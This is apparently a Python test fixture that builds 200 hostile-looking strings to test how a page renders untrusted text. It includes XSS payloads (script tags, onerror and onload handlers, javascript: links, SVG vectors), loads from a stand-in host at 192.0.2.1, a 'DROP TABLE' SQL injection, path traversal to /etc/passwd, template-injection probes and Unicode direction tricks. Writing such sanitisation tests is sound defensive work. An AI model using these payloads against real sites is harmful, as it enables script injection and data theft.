"""200 strings that a page might take for something else than text, made from families of markup, links, formulas, codes and controls.

Any that ran would set `window.hacked` or ask the host 192.0.2.1 (an address for documentation, which nobody has).
"""

from __future__ import annotations

RUN = "window.hacked=1"
HOST = "http://192.0.2.1/x"

FAMILIES: dict[str, tuple[str, ...]] = {
    "elements": (
        f"<script>{RUN}</script>",
        f"<script src={HOST}.js></script>",
        f"</script><script>{RUN}</script>",
        f"<iframe src='{HOST}'></iframe>",
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f"<object data={HOST}></object><embed src={HOST}>",
        f'<meta http-equiv="refresh" content="0;url={HOST}">',
        f'<base href="{HOST}/">',
        f'<form action="{HOST}"><input name=q><button>Send</button></form>',
        "<h1>Big</h1><hr><table><tr><td>1</td></tr></table>",
        "</p></div></section></body></html>",
        "<!-- a comment --> <![CDATA[ cdata ]]> <?php echo 1 ?>",
    ),
    "attributes": (
        f"<img src=x onerror={RUN}>",
        f'<img src="{HOST}.png" srcset="{HOST}2.png 2x">',
        f"<body onload={RUN}>",
        f"<details open ontoggle={RUN}>x</details>",
        f"<input autofocus onfocus={RUN}>",
        f'" onmouseover="{RUN}" x="',
        f"' autofocus onfocus='{RUN}' x='",
        f"<video><source onerror={RUN}></video>",
    ),
    "drawings": (
        f"<svg onload={RUN}></svg>",
        f"<svg><script>{RUN}</script></svg>",
        f'<svg><image href="{HOST}.png"/></svg>',
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    ),
    "styles": (
        f"<style>@import '{HOST}.css'; * {{ display: none }}</style>",
        f'<link rel="stylesheet" href="{HOST}.css">',
        f'<div style="background:url({HOST}.png);position:fixed;inset:0">x</div>',
        "}</style><style>body{display:none}",
        "url(javascript:1) expression(1) -moz-binding:url(#x)",
    ),
    "links": (
        f"[click](javascript:{RUN})",
        f"[click]({HOST})",
        f'<a href="javascript:{RUN}">click</a>',
        f"javascript:{RUN}",
        "data:text/html,<b>bold</b>",
        f"<{HOST}>",
        f"{HOST}?a=1&b=2#c",
        "www.example.org and someone@example.org",
        f"![pixel]({HOST}.png)",
        f"[a][1] [1]: {HOST}",
    ),
    "markdown": (
        "*stars* **two** ***three***",
        "_under_ __two__ ~~struck~~",
        "`code` ``two`` ```fence```",
        "# head",
        "> quoted > twice",
        "- item",
        "1. first",
        "| a | b | --- | --- |",
        "a[^1] [^1]: note",
        "- [ ] to do",
        "line  \\ break \\* star",
        "---",
    ),
    "formulas": ("$x^2$", "$$\\sum_{i=1}^n i$$", "\\(a\\) \\[b\\]", "costs $5 and $6", "\\href{javascript:1}{x}", "$\\color{red}{x}$"),
    "codes": (
        ":red[red] :blue-background[b]",
        ":material/home: :streamlit:",
        ":smile: :flag-us: :+1:",
        ":rainbow[all] :gray-badge[x]",
        ":small[tiny] :shortcut[Ctrl+K]",
        "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
        "%s %d %(name)s {0} {name}",
        "&amp; &lt;b&gt; &#60;i&#62; &nbsp;",
        "\\u003cb\\u003e \\x3ci\\x3e %3Cscript%3E",
        "null undefined NaN [object Object] __proto__",
        "'; DROP TABLE conversations; --",
        "../../etc/passwd C:\\x\\y %00",
    ),
    "controls": (
        "\u202egnp.exe\u202c reversed",
        "\u2066isolated\u2069 \u2067right\u2069",
        "\u200fمرحبا\u200e بالعالم",
        "zero\u200bwidth\u200cjoin\u200ders",
        "soft\u00adhyphen word\u2060joiner",
        "🇺🇸 👩‍👩‍👧 e\u0301 Z\u0351\u036b\u0343\u036a",
        "ﷺ ﬁ Ａ ｊavascript:x",
        "\ufeffmark and \ufffc object",
    ),
}
_AROUND = ("{}", "before {} after", "“{}” twice {}")
HOSTILE: tuple[str, ...] = tuple(around.replace("{}", text) for around in _AROUND for family in FAMILIES.values() for text in family)[:200]
